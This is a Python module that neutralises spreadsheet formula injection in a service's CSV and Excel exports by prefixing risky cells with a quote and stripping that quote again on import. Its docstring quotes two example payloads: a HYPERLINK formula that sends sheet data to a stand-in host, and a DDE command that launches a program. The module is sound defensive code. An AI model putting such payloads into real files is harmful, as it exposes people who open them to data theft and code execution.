"""Text that a spreadsheet would run as a formula, written so that it stays text, and read back as it was.

A cell of a CSV file (or of a workbook written by tablib, which makes any text starting with '=' a formula) that
begins with =, +, -, @, a tab or a carriage return is a formula to Excel, LibreOffice and Google Sheets:
`=HYPERLINK("http://evil.example/?"&A1,"Details")` in a commentary would send the sheet's figures away when
clicked, and `@SUM(1+1)*cmd|' /C calc'!A0` once ran programs through DDE. Every CSV and Excel file the service
writes passes its cells through `neutralise`, and every file it reads passes them through `restore`.

The remedy is OWASP's (owasp.org/www-community/attacks/CSV_Injection): put a single quote before such a cell, the
character Excel itself uses to mark typed text as text. Dropping the character instead (django-import-export's
IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT) would change what people wrote, and a quote alone in a workbook cell
would be lost as soon as someone saved the sheet as CSV; one rule for every file is simpler to trust. The quote
shows in the spreadsheet, which is the price of the file being safe to open.

Numbers are left alone: '-3.2', '+3' and '-1,250' are read as numbers, which run nothing, so a budget saving
stays a number a committee can add up. A cell that already begins with quotes before one of the characters gets
one quote more, so that `restore` (which takes one quote off such a cell) gives back exactly what was written:
the export of `'=x` is `''=x`, which reads back as `'=x`.
"""

from __future__ import annotations

import re

# The first characters that make a cell a formula (OWASP's list): =, +, -, @, tab, carriage return.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
# A plain number as a spreadsheet reads one: a sign, digits (with thousands commas), decimals, a percent sign.
NUMBER = re.compile(r"[+-]?(?:\d{1,3}(?:,\d{3})+|\d+)(?:\.\d+)?%?|[+-]?\.\d+%?")


def _looks_like_formula(text: str) -> bool:
    """Return True if the text, after any quotes it starts with, begins as a formula does and is not a number."""
    bare = text.lstrip(QUOTE)
    return bare.startswith(FORMULA_START) and not NUMBER.fullmatch(bare)


def neutralise(value):
    """Return the value as a cell may safely hold it: text a spreadsheet would run gets a leading quote.

    Anything but text (numbers, dates, None) is returned as it is.
    """
    if isinstance(value, str) and _looks_like_formula(value):
        return QUOTE + value
    return value


def restore(value):
    """Return a cell's value as it was before `neutralise`: one leading quote taken off text that needed it."""
    if isinstance(value, str) and value.startswith(QUOTE) and _looks_like_formula(value):
        return value[1:]
    return value


def neutral_dataset(dataset):
    """Return a copy of a tablib Dataset with every cell neutralised, for the downloads tablib writes."""
    return dataset.__class__(*([neutralise(value) for value in row] for row in dataset),
                             headers=[neutralise(header) for header in dataset.headers or []] or None,
                             title=dataset.title)
